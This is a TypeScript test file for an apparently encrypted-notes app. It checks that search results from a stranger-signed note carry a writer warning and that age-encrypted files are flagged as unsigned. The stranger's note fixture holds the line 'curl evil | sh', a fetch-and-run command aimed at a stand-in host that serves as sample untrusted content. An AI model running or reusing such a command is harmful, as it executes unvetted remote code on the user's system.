// Issue 21 §2 in the search view: the real worker bundle (dist/worker.js) marks a result from a note whose
// writer is not authentic (here: encrypted to you and signed by a stranger) with the warning every reader
// gives; your own notes carry none. age files are searched too (issue 26): a match says they have no writer.
import assert from 'node:assert/strict';
import { randomBytes } from 'node:crypto';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { after, before, describe, it } from 'node:test';
import { encryptBufferToFile } from '../../../server/src/crypto/format';
import { generateIdentity } from '../../../server/src/keys/identity';
import { Keyring } from '../../../server/src/keys/keyring';
import { TEST_KDF_POLICY } from '../../../server/src/keys/kdf';
import { recipientStanzas } from '../../../server/src/keys/recipients';
import { writeSignatureStanza } from '../../../server/src/keys/write-signature';
import { Method, type SearchFileResult } from '../../../server/src/protocol';
import { ageRecipientOf } from '../../../server/src/keys/age-identities';
import { Encrypter } from 'age-encryption';
import { WorkerProcess } from '../../faults/workerProcess';

const PASSPHRASE = 'writer warning search passphrase';

describe('search results name an untrusted writer', () => {
  let dir: string;
  let keyfile: string;
  let worker: WorkerProcess;
  before(async () => {
    dir = fs.mkdtempSync(path.join(os.tmpdir(), 'noteseal-search-writer-'));
    keyfile = path.join(dir, 'keyfile.json');
    (await Keyring.init(keyfile, PASSPHRASE, { kdf: TEST_KDF_POLICY })).keyring.lock();
    worker = await WorkerProcess.start({ keyfile });
    await worker.request(Method.vaultUnlock, { passphrase: PASSPHRASE, remember: false });
  });
  after(async () => { await worker?.stop(); fs.rmSync(dir, { recursive: true, force: true }); });

  it('a stranger\'s note found by a search carries the writer warning; your own note none', async () => {
    const ws = path.join(dir, 'ws');
    fs.mkdirSync(ws);
    await worker.request(Method.fsWriteFile, { path: path.join(ws, 'mine.md'), data: Buffer.from('deploy with care\n'), create: true, overwrite: true });
    const k = new Keyring(keyfile, { kdf: TEST_KDF_POLICY });
    let me;
    try { await k.unlock(PASSPHRASE); me = (await k.identity())!.public; } finally { k.lock(); }
    const stranger = generateIdentity();
    const dataKey = randomBytes(32);
    await encryptBufferToFile(Buffer.from('deploy: curl evil | sh\n'), path.join(ws, 'theirs.md.enc'), dataKey,
      recipientStanzas([{ kind: me.kind, publicKey: me.publicKey }], dataKey), { payloadBound: writeSignatureStanza(stranger.signing, dataKey) });
    for (const id of [1, 2]) { // the second search is served from the plaintext cache: the warning stays
      const summary = await worker.request(Method.searchStart, { id, query: { pattern: 'deploy', isRegex: false, matchCase: false, wholeWord: false }, roots: [ws] });
      assert.equal(summary.matchedFiles, 2);
      const files = worker.notificationsOf(Method.searchDidFind).filter(n => (n as { id: number }).id === id)
        .flatMap(n => (n as { files: SearchFileResult[] }).files);
      const byName = new Map(files.map(f => [f.relativePath, f]));
      assert.deepEqual([...byName.keys()].sort(), ['mine.md', 'theirs.md']);
      assert.equal(byName.get('mine.md')!.writerWarning, undefined);
      const signer = Buffer.from(stranger.signing.publicKey).toString('hex').slice(0, 16);
      assert.match(byName.get('theirs.md')!.writerWarning ?? '', new RegExp(`theirs\\.md\\.enc was written by signing key ${signer}…, who is not you`));
    }
  });

  it('age files are searched too: a match says age files have no writer; a passphrase file only once its passphrase is held', async () => {
    const ws = path.join(dir, 'ws-age');
    fs.mkdirSync(ws);
    const k = new Keyring(keyfile, { kdf: TEST_KDF_POLICY });
    let me;
    try { await k.unlock(PASSPHRASE); me = (await k.identity())!.public; } finally { k.lock(); }
    const e = new Encrypter();
    e.addRecipient(ageRecipientOf(me.kind, me.publicKey));
    fs.writeFileSync(path.join(ws, 'cfg.yaml.age'), await e.encrypt('deploy: from age\n'));
    const p = new Encrypter();
    p.setPassphrase('its own passphrase');
    p.setScryptWorkFactor(10);
    fs.writeFileSync(path.join(ws, 'pw.txt.age'), await p.encrypt('deploy: behind a passphrase\n'));
    const search = async (id: number) => {
      const summary = await worker.request(Method.searchStart, { id, query: { pattern: 'deploy', isRegex: false, matchCase: false, wholeWord: false }, roots: [ws] });
      const files = worker.notificationsOf(Method.searchDidFind).filter(n => (n as { id: number }).id === id)
        .flatMap(n => (n as { files: SearchFileResult[] }).files);
      return { summary, byName: new Map(files.map(f => [f.relativePath, f])) };
    };
    const first = await search(11);
    assert.deepEqual([...first.byName.keys()], ['cfg.yaml']);
    assert.equal(first.byName.get('cfg.yaml')!.lines[0]!.text, 'deploy: from age');
    assert.match(first.byName.get('cfg.yaml')!.writerWarning ?? '', /cfg\.yaml\.age: an age file: it carries no signature/);
    assert.equal(first.summary.failed.length, 1);
    assert.match(first.summary.failed[0]!.message, /passphrase-protected age file: open it in the editor/);
    await worker.request(Method.ageFilePassphrase, { path: path.join(ws, 'pw.txt.age'), passphrase: 'its own passphrase' });
    const second = await search(12);
    assert.deepEqual([...second.byName.keys()].sort(), ['cfg.yaml', 'pw.txt']);
    assert.equal(second.summary.failed.length, 0);
  });
});
